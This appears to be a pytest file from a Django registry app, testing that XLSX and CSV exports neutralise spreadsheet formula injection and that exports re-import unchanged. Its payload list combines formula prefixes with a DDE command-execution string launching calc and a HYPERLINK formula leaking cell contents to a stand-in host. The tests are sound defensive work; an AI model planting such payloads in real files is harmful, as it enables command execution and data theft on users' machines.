"""No cell of any export is a live formula, whatever a record is called; and an export imports again unchanged."""

import csv
import io
from typing import Any

import openpyxl
import pytest

from evaluations.domain.exports import export_records
from evaluations.domain.imports import apply_batch, check_batch, open_batch
from evaluations.domain.imports.corrections import annotated
from evaluations.models import Recognition
from ocop.accounts.enums import Role
from products.enums import ImportState
from products.models import Producer, Product
from programs.enums import Tier
from tests.factories import make_producer, make_product, make_recognition, make_unit, make_user

from .dumps import dump

pytestmark = pytest.mark.django_db
STARTS = ("=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠", "\t=", " =", "'=", "''=", "\n=", "=+", "=-", "@=")
CALLS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://a.b/?x="&A1,"Xem")',
    "1+1",
)
PAYLOADS = [start + call for start in STARTS for call in CALLS]
QUERIES: dict[str, Any] = {
    "producers": lambda: Producer.objects.order_by("pk"),
    "products": lambda: Product.objects.order_by("pk"),
    "recognitions": lambda: Recognition.objects.order_by("pk"),
}
LIVE = tuple("=+-@|%＝＋－＠\t\n")


@pytest.fixture
def commune() -> Any:
    return make_unit(parent=make_unit(Tier.PROVINCE))


def fill(commune: Any) -> None:
    for number, payload in enumerate(PAYLOADS):
        producer = make_producer(commune, name=f"{payload} {number}", address=payload, representative=payload)
        make_recognition(make_product(producer, name=payload), body_note=payload, source_note=payload)


def no_live_cell(data: bytes) -> bool:
    cells = [cell for sheet in openpyxl.load_workbook(io.BytesIO(data)) for line in sheet for cell in line]
    dangerous = [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith(LIVE)]
    assert len(dangerous) >= len(PAYLOADS) // 2
    return {cell.data_type for cell in cells} <= {"s", "n", "d"} and all(cell.quotePrefix for cell in dangerous)


@pytest.mark.parametrize("kind", QUERIES)
def test_no_export_holds_a_live_formula(commune: Any, kind: str) -> None:
    assert len(PAYLOADS) >= 40
    fill(commune)
    data, rows = export_records(kind, QUERIES[kind](), "xlsx")
    assert (rows, no_live_cell(data)) == (len(PAYLOADS), True)
    text = export_records(kind, QUERIES[kind](), "csv")[0].decode("utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
    assert [cell for cell in cells if cell.startswith(LIVE)] == []


def test_the_marked_file_holds_none(commune: Any) -> None:
    officer = make_user(Role.COMMUNE_OFFICER, commune)
    lines = [["Tên sản phẩm", "Tên chủ thể", "Tên đơn vị", "Hạng sao"]]
    lines += [[payload, payload, commune.name, payload] for payload in PAYLOADS]
    out = io.StringIO()
    csv.writer(out).writerows(lines)
    batch = check_batch(batch=open_batch(actor=officer, data=out.getvalue().encode(), name="a.csv"), actor=officer)
    assert batch.state == ImportState.FAULTY
    assert no_live_cell(annotated(batch))


@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
@pytest.mark.parametrize("kind", QUERIES)
def test_every_export_imports_again_unchanged(commune: Any, kind: str, file_format: str) -> None:
    product = make_product(
        make_producer(commune, name="=Nguy hiểm", address="-1+1", phone="0912345678"), name="+Mật ong"
    )
    make_recognition(product, star=4, source_note="sổ cũ")
    make_product(make_producer(commune, name="Minh họa", is_illustration=True), is_illustration=True)
    officer, before = make_user(Role.COMMUNE_OFFICER, commune), dump()
    data, rows = export_records(kind, QUERIES[kind](), file_format)
    if kind == "producers":
        from evaluations.domain.files import import_file

        counts, faults = import_file(kind=kind, data=data, name=f"a.{file_format}")
        assert (counts["rows"], counts["new_producers"], counts["filled"], faults) == (rows, 0, 0, [])
    else:
        batch = check_batch(batch=open_batch(actor=officer, data=data, name=f"a.{file_format}"), actor=officer)
        assert (batch.faults, batch.summary["known"]) == ([], rows)
        assert apply_batch(batch=batch, actor=officer).state == ImportState.APPLIED
    after = dump()
    changed = {name for name in before if before[name] != after[name]} - {"accounts.user", "accounts.grant"}
    assert changed == set()
